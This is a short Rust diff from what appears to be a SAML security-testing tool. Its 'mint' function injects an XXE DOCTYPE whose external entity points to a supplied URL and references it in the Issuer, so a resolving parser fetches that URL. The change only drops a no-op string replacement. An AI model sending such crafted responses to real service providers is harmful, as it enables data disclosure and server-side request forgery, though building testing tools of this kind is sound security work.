@@ -781,7 +781,7 @@ pub fn mint(input: &MintInput<'_>, signer: &dyn XmlSigner, encryptor: &dyn XmlEn
                 response_xml = format!(
                     r#"<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "{}">]>{}"#,
                     super::xml::escape_attr(&url),
-                    response_xml.replacen("<saml:Issuer", "<saml:Issuer", 1)
+                    response_xml
                 );
                 // Reference the entity in the response Issuer so a resolving parser fetches it.
                 if let Some(pos) = response_xml.find("</saml:Issuer>") {
